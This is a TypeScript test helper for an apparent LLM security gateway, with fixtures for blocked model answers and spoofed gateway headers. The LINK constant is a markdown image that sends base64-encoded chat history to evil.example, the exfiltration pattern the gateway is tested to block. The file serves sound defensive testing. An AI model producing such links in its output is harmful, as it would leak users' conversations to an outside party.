import { afterAll, beforeAll, expect } from 'vitest';
import { type RecordingProvider, startRecordingProvider } from './recording-provider.ts';
import { expectGatewayHeaders } from './shapes.ts';
import { type Answer, BENIGN, chat, errorOf, type Stack, startStack } from './stack.ts';

export const MAX_BODY_BYTES = 256 * 1024;
const SECRET = Buffer.from('the secret history of this chat').toString('base64');
/** What no caller may be answered. */
export const LINK = `Here you are: ![x](https://evil.example/c?d=${SECRET})`;

export const completion = (...messages: readonly object[]): string =>
  JSON.stringify({
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: messages.map((message, index) => ({
      index,
      message: { role: 'assistant', ...message },
      finish_reason: 'stop',
    })),
  });

/** A gateway for the tests of a file, before a provider whose answers they choose. */
export const answeringGateway = () => {
  let started: Readonly<{ provider: RecordingProvider; stack: Stack }> | undefined;
  const there = () => {
    if (started === undefined) throw new Error('no test has begun');
    return started;
  };

  beforeAll(async () => {
    const provider = await startRecordingProvider();
    const stack = await startStack({
      upstream: provider.url,
      env: {
        PORTCULLIS_SCAN_MAX_BODY_BYTES: String(MAX_BODY_BYTES),
        PORTCULLIS_POLICY_ENTITIES: '{"EMAIL_ADDRESS":{"output":"redact"}}',
      },
    });
    started = { provider, stack };
  });
  afterAll(async () => {
    await started?.stack.stop();
    await started?.provider.close();
  });

  const provider: Pick<RecordingProvider, 'next' | 'seen'> = {
    next: (respond) => there().provider.next(respond),
    seen: () => there().provider.seen(),
  };
  const stack: Pick<Stack, 'call' | 'metric' | 'counted' | 'record'> = {
    call: (call) => there().stack.call(call),
    metric: (...asked) => there().stack.metric(...asked),
    counted: (...asked) => there().stack.counted(...asked),
    record: (requestId) => there().stack.record(requestId),
  };
  return {
    provider,
    stack,
    /** Asks for nothing in particular. */
    asked: (headers: Readonly<Record<string, string>> = {}): Promise<Answer> =>
      stack.call({ body: chat(BENIGN), headers }),
  };
};

export const expectAnswerBlocked = (answer: Answer, code: string): void => {
  expect({ status: answer.status, text: answer.text }).toMatchObject({ status: 403 });
  expect(errorOf(answer)).toMatchObject({ type: 'response_blocked', code });
  expectGatewayHeaders(answer, ['pass', 'blocked']);
  expect(answer.headers['content-type']).toBe('application/json');
  expect(answer.headers['content-encoding']).toBeUndefined();
  expect(answer.headers['x-request-id']).toBe(answer.headers['x-gateway-request-id']);
};

/** What only the gateway may say. */
export const SPOOFED = {
  'x-gateway-request-id': 'req_spoofed',
  'X-Gateway-Input-Status': ['spoofed', 'again'],
  'x-gateway-output-status': 'spoofed',
  'x-gateway-scan-time-ms': ['1', '2', '3'],
  'x-gateway-detection': 'prompt_injection/spoofed;confidence=1.000',
  'x-gateway-anything': 'spoofed',
};
